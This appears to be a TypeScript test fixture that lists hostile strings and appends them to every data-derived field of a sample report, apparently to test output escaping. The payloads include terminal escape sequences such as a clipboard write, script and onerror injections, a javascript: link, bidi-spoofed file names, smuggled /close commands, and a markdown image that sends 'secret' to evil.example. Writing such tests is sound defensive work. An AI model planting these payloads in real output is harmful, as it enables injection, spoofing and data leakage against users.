import { sample } from "./sample.ts";
import { ledgerSources, type LedgerSource, type Report } from "../../src/model/index.ts";

/** What attackers put into user names, statements, file names and instance ids. */
export const payloads: readonly string[] = [
  "\u001b[2J\u001b[H",
  "\u001b]0;owned\u0007",
  "\u001b]52;c;ZXZpbA==\u0007",
  "\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007",
  "\u009b31m\u009d0;x\u009c",
  "a\rb\bc\u0000d",
  "\u202Egnp.exe\u2066\u2069",
  "zero\u200bwidth\u{e0041}\ufeff",
  "</details></td></table>",
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<!-- hidden -->",
  "![](http://evil.example/?q=secret)",
  "[click](javascript:alert(1))",
  "http://evil.example www.evil.example bob@evil.example",
  "@team @everyone #123 GH-1 Fixes #1 !7 $8 ~bug",
  "/close",
  "x\n/close\n/label ~bug",
  "a | b || c \\| d \\",
  "` `` ``` ````\n```\n~~~",
  "# heading\n\n- list\n\n> quote\n\n---\n| a |\n| - |",
  "&lt;b&gt; &#64;team \\@team **bold** _em_ ~~del~~ :tada: $`x`$",
];

/** The sample with a payload in every string that comes from data. */
export function hostile(payload: string): Report {
  return taint(sample, payload) as Report;
}

// The words and instants of the model: they come from code.
const fixed = new Set([
  "$schema",
  "schemaVersion",
  "class",
  "level",
  "kind",
  "state",
  "role",
  "roleSource",
  "subtype",
  "healedBy",
  "timeBasis",
  "sha256",
  "sha256State",
  "precision",
  "start",
  "end",
  "from",
  "to",
  "time",
  "availableUntil",
  "runAgainAfter",
  "tool",
  "by",
  "product",
  "answer",
  "match",
  "endpointTtlSource",
  "separates",
]);

const words: readonly LedgerSource[] = ledgerSources;

function taint(value: unknown, payload: string, key = ""): unknown {
  if (fixed.has(key) || (key === "source" && words.includes(value as LedgerSource))) return value;
  if (typeof value === "string") return `${value}${payload}`;
  if (Array.isArray(value)) return value.map((element) => taint(element, payload, key));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, inner]) => [
      key === "errors" || key === "options" ? `${name}${payload}` : name,
      taint(inner, payload, name),
    ]),
  );
}
